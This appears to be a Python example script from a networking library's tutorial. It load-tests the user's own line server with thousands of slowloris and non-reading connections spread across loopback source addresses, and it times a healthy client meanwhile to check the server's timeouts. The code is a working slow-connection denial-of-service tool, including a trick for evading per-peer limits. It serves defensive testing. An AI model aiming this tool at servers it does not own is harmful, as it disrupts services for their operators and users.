r"""Attack your own server with slow peers, and measure what a healthy client sees meanwhile.

Two attacks on a line server, from many connections and several source addresses:

* ``trickle`` (slowloris): each connection starts a line and sends one more byte of it every
  ``--interval`` seconds, never the newline. ``idle_timeout`` never fires (a byte keeps coming);
  ``frame_timeout`` cuts it.
* ``nonreader``: each connection sends ``--request`` once (by default ``COUNT 1000000000``, the
  tutorial's step 4) and reads nothing of what comes back until the end. The server's writes
  block; its ``idle_timeout`` (which bounds every write as well as every read) cuts it. The
  attacker only learns of that when it reads at the end (the end of the connection waits
  behind the unread replies), so for this mode the figures say how many were cut, not when.

Meanwhile a healthy client sends ``--probe`` every 50 ms on a fresh connection and times the
reply. At the end it prints how many attackers connected, how many the server cut and when, and
the healthy client's slowest exchange. Try it against the echo demo with its defences::

    python -m trio_chat echo --port 7777 --frame-timeout 5 &
    python examples/howto/slowloris.py 7777 --attackers 2000 --seconds 10

On Linux every address in 127.0.0.0/8 reaches the loopback interface, so the attackers come
from 127.0.0.2 to 127.0.0.9 by default (``--sources``): a per-peer limit alone would not stop
them. Only ever point it at a server of your own.
"""

from __future__ import annotations

import argparse
import math
import resource
import socket
import statistics
import sys
import time
from collections.abc import Sequence
from functools import partial

import attrs
import trio


@attrs.define
class Figures:
    """What one run saw."""

    connected: int = 0
    refused: int = 0  # connect() failed
    cut: list[float] = attrs.field(factory=list)  # seconds from connecting until the server cut
    probes: list[float] = attrs.field(factory=list)  # seconds each healthy exchange took
    probe_failures: int = 0

    def report(self, attackers: int) -> str:
        cut = sorted(self.cut)
        lines = [
            f"attackers: {attackers}, connected {self.connected}, refused {self.refused}, "
            f"cut by the server {len(cut)}",
        ]
        if cut:
            lines.append(
                f"  cut after: median {statistics.median(cut):.2f} s, "
                f"last {cut[-1]:.2f} s (from their connect)"
            )
        if self.probes:
            probes = sorted(self.probes)
            median = statistics.median(probes) * 1e3
            lines.append(
                f"healthy client: {len(probes)} exchanges, median {median:.1f} ms, "
                f"slowest {probes[-1] * 1e3:.1f} ms, failed {self.probe_failures}"
            )
        else:
            lines.append(f"healthy client: no exchange completed, failed {self.probe_failures}")
        return "\n".join(lines)


async def trickle(stream: trio.SocketStream, interval: float, until: float) -> bool:
    """Send a line that never ends, a byte at a time; True if the server cut us first."""
    try:
        while trio.current_time() < until:
            await stream.send_all(b"x")
            with trio.move_on_after(interval):
                if await stream.receive_some(65536) == b"":
                    return True  # EOF: the server closed the connection
    except trio.BrokenResourceError:
        return True  # a reset: the server closed it with our unread bytes
    return False


async def non_reader(stream: trio.SocketStream, request: bytes, until: float) -> bool:
    """Send *request* once, then read nothing until *until*; True if the server had cut us.

    A peer that does not read cannot see the server close: the end of the connection waits in
    the server's kernel behind the replies nobody reads. So at *until* it reads everything that
    is there, and an end of input within a few seconds means the server had given up on it.
    """
    await stream.send_all(request)
    await trio.sleep_until(until)
    with trio.move_on_after(10):
        try:
            while await stream.receive_some(1 << 20):
                pass
        except trio.BrokenResourceError:
            return True
        return True
    return False


async def attack(
    host: str,
    port: int,
    *,
    attackers: int,
    sources: Sequence[str],
    mode: str,
    interval: float,
    request: bytes,
    probe: bytes,
    seconds: float,
) -> Figures:
    figures = Figures()
    until = trio.current_time() + seconds

    async def one(number: int) -> None:
        sock = trio.socket.socket()
        if sources:
            await sock.bind((sources[number % len(sources)], 0))
        if mode == "nonreader":  # a small window: the server's writes block sooner
            sock.setsockopt(trio.socket.SOL_SOCKET, trio.socket.SO_RCVBUF, 4096)
        try:
            await sock.connect((host, port))
        except OSError:
            figures.refused += 1
            sock.close()
            return
        figures.connected += 1
        connected_at = trio.current_time()
        async with trio.SocketStream(sock) as stream:
            if mode == "trickle":
                cut = await trickle(stream, interval, until)
            else:
                cut = await non_reader(stream, request, until)
        if cut:
            figures.cut.append(trio.current_time() - connected_at)
        # (nonreader: the time at which it looked, not the time at which it was cut)

    def healthy() -> None:
        # A thread with blocking sockets, not a task: a task would wait its turn behind the
        # thousands of attacking tasks of this process, and time them rather than the server.
        time.sleep(min(1.0, seconds / 4))  # once the attack is under way
        stop = time.perf_counter() + seconds - min(1.0, seconds / 4)
        while time.perf_counter() < stop:
            started = time.perf_counter()
            try:
                reply = exchange(host, port, probe)
            except OSError:
                figures.probe_failures += 1
            else:
                if reply:
                    figures.probes.append(time.perf_counter() - started)
                else:
                    figures.probe_failures += 1
            time.sleep(0.05)

    async with trio.open_nursery() as nursery:
        nursery.start_soon(partial(trio.to_thread.run_sync, healthy))
        for number in range(attackers):
            nursery.start_soon(one, number)
    return figures


def exchange(host: str, port: int, request: bytes) -> bytes:
    """Send *request* on a new connection; the reply, once as long as the request (or EOF)."""
    with socket.create_connection((host, port), timeout=10) as sock:
        sock.sendall(request)
        reply = b""
        while len(reply) < len(request) and (data := sock.recv(65536)):
            reply += data
        return reply


def sources_from(text: str) -> list[str]:
    """``127.0.0.2-127.0.0.9`` (a range of the last byte) or a comma-separated list."""
    if not text:
        return []
    if "-" in text:
        first, last = text.split("-")
        prefix, _, start = first.rpartition(".")
        return [f"{prefix}.{n}" for n in range(int(start), int(last.rpartition(".")[2]) + 1)]
    return text.split(",")


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("port", type=int)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--attackers", type=int, default=2000)
    parser.add_argument("--mode", choices=["trickle", "nonreader"], default="trickle")
    parser.add_argument("--interval", type=float, default=1.0, help="trickle: between bytes")
    parser.add_argument("--request", default="COUNT 1000000000\r\n", help="nonreader's request")
    parser.add_argument("--probe", default="hello\n", help="the healthy client's request")
    parser.add_argument("--seconds", type=float, default=10.0, help="how long to attack")
    parser.add_argument("--sources", default="127.0.0.2-127.0.0.9", help="'' for none")
    args = parser.parse_args(argv)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = args.attackers + 100
    if soft < wanted:
        new = wanted if hard == resource.RLIM_INFINITY else min(wanted, hard)
        resource.setrlimit(resource.RLIMIT_NOFILE, (new, hard))
    figures = trio.run(
        lambda: attack(
            args.host,
            args.port,
            attackers=args.attackers,
            sources=sources_from(args.sources),
            mode=args.mode,
            interval=args.interval,
            request=args.request.encode(),
            probe=args.probe.encode(),
            seconds=args.seconds,
        )
    )
    print(figures.report(args.attackers), flush=True)
    slowest = max(figures.probes, default=math.inf)
    return 0 if slowest < 1.0 and not figures.probe_failures else 1


if __name__ == "__main__":
    sys.exit(main())
